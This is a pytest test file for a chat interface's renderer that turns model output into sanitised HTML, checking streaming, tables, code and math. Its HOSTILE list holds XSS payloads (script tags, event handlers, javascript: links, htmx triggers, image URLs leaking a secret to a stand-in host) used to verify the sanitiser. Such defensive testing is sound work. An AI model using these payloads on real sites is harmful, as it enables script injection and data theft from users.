"""Model output becomes safe HTML; checked on the parsed tree, because substrings lie."""

import re
from html import escape
from html.parser import HTMLParser

import pytest

from chat.rendering import (
    LONG_LINES,
    MATH_TAGS,
    OPEN_MAX_CHARS,
    RENDER_MAX_CHARS,
    StreamRenderer,
    render,
)

ALLOWED = MATH_TAGS | {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del", "a"),
    *("ul", "ol", "li", "pre", "code", "span", "div", "blockquote"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<b></b>ipt>alert(1)</scr<b></b>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style>@import 'http://sink/'</style></svg>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<form action=//sink><button formaction=javascript:1>x</button></form>",
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<div data-hx-post="/x" id="main" name="x" style="background:url(//sink)">x</div>',
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](http://sink/?q=SECRET)",
    "![x][1]\n\n[1]: http://sink/?q=SECRET",
    '![x](http://sink/ "a\\" onerror=alert(1)")',
    "```<img src=x>\n<script>alert(1)</script>\n```",
    '```html" onmouseover="alert(1)\n<b>\n```',
    '```mermaid\ngraph TD; click A href "javascript:alert(1)"\n```',
    "| <img src=x> | b |\n|---|---|\n| <script>1</script> | [y](javascript:1) |",
    "<link rel=stylesheet href=//sink><meta http-equiv=refresh content='0;url=//sink'>",
    "<!-- --><template><script>1</script></template>",
    r"$\href{javascript:alert(1)}{x}$ $\style{background:url(//sink)}{x}$ $\class{menu}{x}$",
    r"$\text{<img src=//sink onerror=alert(1)>}$ $\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$$\text{</mtext></math><img src=//sink>}$$",
    "$<script>alert(1)</script>$ \\(<img src=//sink>\\)",
    r"$\hspace{9999cm}x$ $\mathchoice{<b>}{}{}{}$ \(\htmlId{main}{x}\)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

MATH_ATTRIBUTES = {
    *("display", "stretchy", "fence", "form", "accent", "accentunder", "movablelimits", "lspace"),
    *("rspace", "minsize", "mathvariant", "displaystyle", "scriptlevel", "width"),
    *("linethickness", "columnalign", "notation"),
}


class Found(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Found(html).tags:
        assert tag in ALLOWED
        for name, value in attributes.items():
            known = {"href", "title", "rel", "class", "align", "start"}
            assert name in (MATH_ATTRIBUTES if tag in MATH_TAGS else known)
            assert name != "width" or re.fullmatch(r"-?[\d.]{1,7}[a-z]{0,2}", value or "")
            if name == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_acts(text: str) -> None:
    assert_harmless(render(text))
    renderer = StreamRenderer()
    for character in text:
        settled, tail = renderer.feed(character)
        assert_harmless(settled)
        assert_harmless(tail)


def test_an_image_is_a_link() -> None:
    html = render("![cat](https://example.com/cat.png)")
    assert [tag for tag, _ in Found(html).tags] == ["p", "a"] and ">cat<" in html


def test_links_tell_nobody_where_they_came_from() -> None:
    (link,) = [
        attributes for tag, attributes in Found(render("[x](https://a.b)")).tags if tag == "a"
    ]
    assert link["rel"] == "noopener noreferrer nofollow"


def test_code_is_coloured() -> None:
    html = render("```python\ndef f(): pass\n```")
    assert '<span class="k">def</span>' in html and "<span>python</span>" in html


@pytest.mark.parametrize("language", ["", "no-such-language", "text"])
def test_code_of_an_unknown_language_is_text(language: str) -> None:
    assert "a &lt; b" in render(f"```{language}\na < b\n```")


def test_links_into_the_platform_are_text() -> None:
    assert "href" not in render("[x](/accounts/logout/) [y](//evil.example) [z](chat)")


def test_tables_keep_their_alignment() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert ("td", {"align": "right"}) in Found(html).tags


def test_tasks_are_drawn() -> None:
    html = render("- [ ] todo\n- [x] done\n- [link](https://a.b)")
    assert "<li>☐ todo</li>" in html and "<li>☑ done</li>" in html and ">link</a>" in html


def test_a_huge_answer_is_shown_as_text() -> None:
    assert render("*" * (RENDER_MAX_CHARS + 1)).startswith('<pre class="plain">')


DOCUMENT = (
    "# Title\n\nHello **bold** and `code`.\n\n1. one\n2. two\n\n3. three\n   - inner\n\nText\n"
    "lazy\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(x):\n\n    return x\n```\n\n"
    "> quote\n> more\n\n- [ ] todo\n- [x] done\n\nSetext\n===\n\n    indented\n\n"
    "last \u2028 line 😀"
)


@pytest.mark.parametrize("step", [1, 2, 3, 7, 50, 10_000])
def test_a_streamed_answer_ends_as_the_whole_one(step: int) -> None:
    renderer, settled, tail = StreamRenderer(), "", ""
    for start in range(0, len(DOCUMENT), step):
        more, tail = renderer.feed(DOCUMENT[start : start + step])
        settled += more
    assert settled + tail == render(DOCUMENT)


def test_a_growing_code_block_is_a_code_block() -> None:
    renderer = StreamRenderer()
    settled, tail = renderer.feed("Text.\n\n```python\nprint(")
    assert settled == "<p>Text.</p>\n"
    assert "<pre><code>print(\n</code></pre>" in tail.replace("print(</", "print(\n</")
    settled, tail = renderer.feed("1)\n```\n\nEnd")
    assert settled == "" and "nb" in tail
    settled, tail = renderer.feed(".\n")
    assert "nb" in settled and tail == "<p>End.</p>\n"


def test_a_half_table_is_a_table() -> None:
    renderer = StreamRenderer()
    _settled, tail = renderer.feed("| a | b |\n|---|---|\n| 1 |")
    assert "<td>1</td>" in tail


def test_finished_blocks_are_rendered_once() -> None:
    renderer = StreamRenderer()
    for _paragraph in range(200):
        for piece in ("A parag", "raph of words.\n\nAnother", " one.", "\n\n"):
            renderer.feed(piece)
            assert renderer.open_chars < 100


@pytest.mark.parametrize(
    "text",
    [
        *("It is $", "Costs $5.", "$5 and $10", "$5-$10", "US$5/$6", "5$ or 6$", "a \\$x$ b"),
        *("`$x$`", "$ x $", "$HOME/$PATH", "$5 is less than 6$", "售价$5，现价$3", "$$"),
        "```\n$x$\n```",
    ],
)
def test_money_and_code_are_no_formulas(text: str) -> None:
    assert "<math" not in render(text)


@pytest.mark.parametrize(
    "text",
    [
        *("$x$", "其中$x$是", "($x$)", r"\(x\)", "$$x$$", r"\[x\]", "**$x$**", "- $x$"),
        *("| a |\n|---|\n| $x$ |", "> $$\n> x\n> $$", "1. a\n   $$\n   x\n   $$"),
        *("$$\nx\n- y\n# z\n$$", "a\n\\[\nx\n\\]\nb", "about $5, so $x$"),
    ],
)
def test_formulas(text: str) -> None:
    html = render(text)
    assert html.count("<math") == 1 and "<mi>x</mi>" in html
    assert "$$" not in html and "\\" not in html


@pytest.mark.parametrize(
    "name", ["aligned", "align", "align*", "split", "gathered", "gather", "cases", "pmatrix", ""]
)
def test_formulas_of_several_lines(name: str) -> None:
    body = r"x &= 1 \\ y &= 2" if name not in ("gather", "gathered", "") else r"x \\ y"
    text = f"\\begin{{{name}}}{body}\\end{{{name}}}" if name else body
    html = render(f"$$\n{text}\n$$")
    assert html.count("<mtr>") == 2 and "&amp;" not in html and "\\" not in html


@pytest.mark.parametrize(
    "text",
    [
        r"$\frac{1}{$",
        r"\(\nosuchcommand{x}\)",
        r"\[x^\]",
        "$x}$",
        r"\(\begin{foo}a&b\end{foo}\)",
        "$" + "{" * 3000 + "$",
    ],
)
def test_a_broken_formula_stays_as_typed(text: str) -> None:
    html = render(text)
    assert escape(text, quote=False) in html and "<math" not in html


def test_an_unclosed_formula_is_ordinary_text_in_the_end() -> None:
    text = "where\n$$\nx\n- y\n\nand \\(z **bold**"
    renderer, settled = StreamRenderer(), ""
    for character in text:
        more, tail = renderer.feed(character)
        settled += more
        assert "<li>" in settled or "<li>" not in tail or "$$" not in tail.split("<li>")[1]
    assert settled + (renderer.rest(text) or "") == render(text)


def test_long_code_is_marked_when_it_is_complete() -> None:
    code = "```sh\n" + "ls\n" * (LONG_LINES + 1)
    renderer = StreamRenderer()
    assert "long" not in renderer.feed(code)[1]
    assert '"code-block long"' in renderer.feed("```\n\nEnd.\n")[0]
    assert "long" not in render("```sh\n" + "ls\n" * LONG_LINES + "```")


WATCHED = r"""## A heading

Intro with **bold words**, `code`, a [link](https://a.b/c?d=e) and $x_1 * y * z$:

- one
- two \(a_1 * b * c\) with **bold**
  - inner

1. first
2. second

   ```python
   def f(x):

       return x
   ```

| left | right |
|:-----|------:|
| `a`  | 1     |
| **b** | $y$  |

$$
\begin{aligned}
a &= b \\
- c &= d
\end{aligned}
$$

```js
const a = `b`;

- c
| d | e |
```

> a quote
> goes on

- [ ] to do
- [x] done

\[ \frac{1}{2} \]

***

The end costs $5, **not** $6.
"""


VERBATIM = re.compile(r'<pre>.*?</pre>|<span class="formula-open">.*?</span>|<[^>]*>', re.DOTALL)


def shape(html: str) -> list[str]:
    """The blocks of the answer, in order, without what is in their lines.

    The paragraphs of a list's items are left out: they come when its first empty line does.
    """
    inner = MATH_TAGS | {"span", "br", "strong", "code", "a"}
    tags = [tag for tag, _attributes in Found(html.replace("<li>\n<p>", "<li>")).tags]
    return [tag for tag in tags if tag not in inner]


def test_an_answer_looks_right_wherever_it_is_cut() -> None:
    """Blocks that are finished never change, and what is shown is the beginning of what will be."""
    whole = render(WATCHED)
    wanted, renderer, settled, shown = shape(whole), StreamRenderer(), "", []
    for at, character in enumerate(WATCHED):
        more, tail = renderer.feed(character)
        settled += more
        assert whole.startswith(settled)
        shown = shape(settled + tail)
        text = VERBATIM.sub("", settled + tail)
        assert not re.search(r"\*\*|\]\(|`|^\s*[|#>-]", text, re.MULTILINE), text
        assert shown == wanted[: len(shown)], WATCHED[: at + 1][-60:]
    assert shown == wanted and settled + (renderer.rest(WATCHED) or "") == whole


def test_what_was_streamed_may_have_to_be_drawn_anew() -> None:
    """An address that came after its link, and a text that the provider took back."""
    text = "See [this][1].\n\nMore.\n\n[1]: https://a.b\n\nEnd."
    for whole, is_kept in ((text, False), ("Another text.", False), ("See it.\n\nEnd.", True)):
        renderer = StreamRenderer()
        renderer.feed(text if not is_kept else whole)
        assert (renderer.rest(whole) is not None) is is_kept


def test_one_endless_block_becomes_text() -> None:
    renderer = StreamRenderer()
    _settled, tail = renderer.feed("x" * (OPEN_MAX_CHARS + 1))
    assert tail.startswith('<pre class="plain">')
